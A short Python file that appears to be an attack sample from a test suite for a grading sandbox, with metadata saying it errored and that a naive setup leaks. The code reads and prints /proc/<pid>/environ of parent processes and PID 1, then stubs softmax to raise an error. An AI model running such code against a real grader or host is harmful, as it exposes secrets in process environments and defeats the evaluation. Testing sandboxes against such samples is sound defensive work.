# attack: prints the environment of the processes above it
# points: 0
# statuses: errored
# needs: full
# naive: leaked
import os

parent = os.getppid()
for number in (parent, parent - 1, 1):
    try:
        print(open(f"/proc/{number}/environ").read())
    except OSError as error:
        print(error)


def softmax(logits, dim=-1):
    raise ValueError


log_softmax = softmax
